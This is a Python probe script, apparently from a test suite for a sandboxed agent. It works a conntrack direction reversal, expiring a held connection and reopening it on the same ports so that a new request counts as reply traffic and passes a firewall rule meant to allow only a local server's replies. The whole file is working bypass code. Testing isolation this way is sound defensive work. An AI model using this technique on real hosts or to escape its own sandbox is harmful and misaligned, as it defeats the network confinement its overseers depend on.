#!/usr/bin/env python3
"""A child's way past a rule that lets a local server's replies go (the attack on the installed
agent, 2026-12-01): conntrack's direction is not who opened a connection. She holds a connection
to a server that speaks first, reading it, for WAIT seconds; meanwhile its entry in the kernel's
table goes (after 60 s of CLOSE_WAIT, or taken out by the test, as time does), and the server's
next packet makes a new one with the server's side as its original direction. She then resets
the connection and opens another on the same ports, whose request (naming REAL) is that
entry's reply direction. Run as the child.

  reversed.py ADDRESS PORT REAL WAIT

Prints one word for how the second connection went on after its request: answered (still open
2 s after), reset, closed or timeout.
"""
import socket
import struct
import sys
import time

address, port, real, wait = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
anywhere = "::" if family == socket.AF_INET6 else "0.0.0.0"


def connected(local_port):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((anywhere, local_port))
    sock.settimeout(5)
    sock.connect((address, port))
    return sock


first = connected(0)
local_port = first.getsockname()[1]
first.settimeout(0.2)
deadline = time.monotonic() + wait
while time.monotonic() < deadline:
    try:
        first.recv(100)
    except socket.timeout:
        pass
first.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
first.close()
try:
    second = connected(local_port)
    second.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % real.encode())
    # The server speaks first: what counts is whether the connection lives on after the request.
    second.settimeout(0.5)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            if not second.recv(4096):
                print("closed")
                sys.exit(0)
        except socket.timeout:
            pass
    print("answered")
except (ConnectionResetError, BrokenPipeError):
    print("reset")
except socket.timeout:
    print("timeout")
except OSError as error:
    print("reset" if "reset" in str(error).lower() or "refused" in str(error).lower() else "error:%s" % error)
